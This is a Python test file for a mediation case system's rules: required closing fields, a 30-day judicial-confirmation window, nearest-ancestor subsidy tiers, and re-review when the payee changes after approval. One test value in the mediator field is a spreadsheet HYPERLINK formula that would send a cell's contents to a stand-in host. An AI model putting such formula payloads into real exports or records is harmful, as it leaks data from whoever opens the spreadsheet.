"""The pure rules: checks of mediation.md, the 司法确认 window, tiers."""

import datetime
from decimal import Decimal

import pytest

from fazhi.core.models import Unit
from fazhi.mediation import rules
from fazhi.mediation.models import MediationCase

D = datetime.date


def case(**facts):
    values = {
        "received_date": D(2024, 3, 1),
        "dispute_type": "neighbour",
        "status": "succeeded",
        "agreement_form": "written",
        "closed_date": D(2024, 3, 10),
    }
    values.update(facts)
    return MediationCase(**values)


def headers(found):
    return {p.header for p in found}


def test_success_needs_closing_date_and_agreement_form():
    assert rules.check(case()) == []
    assert headers(rules.check(case(closed_date=None, agreement_form=""))) == {
        "结案日期",
        "协议形式",
    }


def test_only_successful_cases_pass_subsidy_review_or_go_to_court():
    found = rules.check(
        case(
            status="failed",
            agreement_form="",
            subsidy_status="approved",
            judicial_confirmation=True,
        )
    )
    assert headers(found) == {"以奖代补审核", "是否申请司法确认"}


def test_closing_before_receipt_is_refused():
    assert headers(rules.check(case(closed_date=D(2024, 2, 1)))) == {"结案日期"}


def test_confirmation_window_is_30_calendar_days_under_article_33():
    found = rules.confirmation_deadline(case())
    assert found.date == D(2024, 4, 9)  # 3-10 + 30 days, a Tuesday
    assert "第三十三条" in found.basis
    # ending on a Saturday moves to the next working day (民事诉讼法 第八十五条)
    assert rules.confirmation_deadline(case(closed_date=D(2024, 5, 4))).date == D(2024, 6, 3)


def test_window_only_for_written_agreements_and_closes_once_applied():
    assert rules.confirmation_deadline(case(agreement_form="oral")) is None
    assert rules.current_deadline(case(judicial_confirmation=True)) is None
    done = case()
    rules.derive(done, {})
    assert (done.due_date, done.due_label) == (D(2024, 4, 9), rules.CONFIRMATION)
    assert rules.window_open(done, D(2024, 4, 9)) and not rules.window_open(done, D(2024, 4, 10))


COUNTY = "/43/4331/433126/"
COMMITTEE = COUNTY + "433126-S01/433126-S01-01/"


def case_of(path, **facts):
    """A case of the unit at `path` (an unsaved unit: the rules read only its path)."""
    return case(unit=Unit(code=path.strip("/").split("/")[-1], path=path), **facts)


def test_tier_of_a_year_else_default():
    tiers = {COUNTY: {(2025, "major"): Decimal("500")}}
    assert rules.tier_amount(tiers, COMMITTEE, 2025, "major") == Decimal("500")
    assert rules.tier_amount(tiers, COMMITTEE, 2024, "major") == Decimal("300")
    assert rules.tier_amount({}, COMMITTEE, 2024, "difficult") == Decimal("200")


def test_the_nearest_setting_above_the_case_wins_and_a_sibling_counts_for_nothing():
    tiers = {
        "/43/": {(2026, "ordinary"): Decimal("110"), (2026, "major"): Decimal("330")},
        "/43/4331/": {(2026, "ordinary"): Decimal("120")},
        COUNTY: {(2026, "major"): Decimal("350")},
        "/43/4331/433122/": {(2026, "ordinary"): Decimal("99999.00")},  # 泸溪县's own
    }
    assert rules.tier_of(tiers, COMMITTEE, 2026, "ordinary") == (Decimal("120"), "/43/4331/")
    assert rules.tier_of(tiers, COMMITTEE, 2026, "major") == (Decimal("350"), COUNTY)
    assert rules.tier_of(tiers, COMMITTEE, 2026, "difficult") == (Decimal("200"), None)
    sibling = "/43/4331/433122/433122-S01/"
    assert rules.tier_of(tiers, sibling, 2026, "ordinary") == (
        Decimal("99999.00"),
        "/43/4331/433122/",
    )
    # a unit whose code begins like another's is not below it
    assert rules.tier_of(tiers, "/43/4331/4331260/", 2026, "major") == (Decimal("330"), "/43/")


def test_ancestor_paths_are_nearest_first():
    assert rules.ancestor_paths(COUNTY) == [COUNTY, "/43/4331/", "/43/"]
    assert rules.ancestor_paths("") == []


def test_imported_approved_case_takes_its_own_countys_tier():
    tiers = {COUNTY: {(2024, "difficult"): Decimal("250")}, "/43/4331/433122/": {}}
    approved = case_of(COMMITTEE, subsidy_status="approved", difficulty="difficult")
    rules.derive(approved, {rules.TIERS_SETTING: tiers})
    assert (approved.subsidy_year, approved.subsidy_amount) == (2024, Decimal("250"))
    elsewhere = case_of(
        "/43/4331/433122/433122-S01/", subsidy_status="approved", difficulty="difficult"
    )
    rules.derive(elsewhere, {rules.TIERS_SETTING: tiers})
    assert elsewhere.subsidy_amount == Decimal("200")  # 泸溪县 set none: the default


# --- who is paid must not change after approval (issue 15, point 6) ----------------------


def approved_case(**facts):
    """A case as approve_subsidy leaves it: approved, its amount fixed, its payee recorded."""
    done = case_of(
        COMMITTEE,
        committee_code="433126-S01-01",
        mediator="向某",
        difficulty="ordinary",
        subsidy_status="approved",
        subsidy_year=2024,
        subsidy_amount=Decimal("100"),
        **facts,
    )
    rules.derive(done, {})
    return done


def test_approval_records_who_is_paid_and_a_round_trip_changes_nothing():
    done = approved_case()
    assert done.subsidy_approved == {
        "committee_code": "433126-S01-01",
        "mediator": "向某",
        "difficulty": "ordinary",
        "amount": "100.00",
    }
    done.subsidy_amount = Decimal("100.00")  # as read back from the database
    done.prevented_criminal = True  # a change that does not touch who is paid
    rules.derive(done, {})
    assert (done.subsidy_status, done.subsidy_amount) == ("approved", Decimal("100.00"))


@pytest.mark.parametrize(
    ("field", "value", "label"),
    [
        ("mediator", '=HYPERLINK("http://x.example/?"&B3,"查看")', "调解员"),
        ("committee_code", "433126-S01-02", "调解组织"),
        ("subsidy_amount", Decimal("99999.00"), "以奖代补金额"),
        ("difficulty", "major", "疑难程度"),
    ],
)
def test_a_change_of_who_is_paid_after_approval_sends_the_case_back(field, value, label):
    done = approved_case()
    setattr(done, field, value)
    assert rules.changed_since_approval(done) == [label]
    rules.derive(done, {})
    assert done.subsidy_status == "submitted"
    assert done.subsidy_amount is None and done.subsidy_approved == {}
    assert done.subsidy_reason == f"审核通过后修改了{label}，须重新审核"
    assert done.subsidy_year == 2024  # back in the same round


def test_a_case_not_approved_keeps_no_payee():
    for status in ("none", "submitted", "rejected"):
        found = case_of(COMMITTEE, subsidy_status=status, subsidy_approved={"mediator": "x"})
        rules.derive(found, {})
        assert found.subsidy_approved == {} and rules.changed_since_approval(found) == []
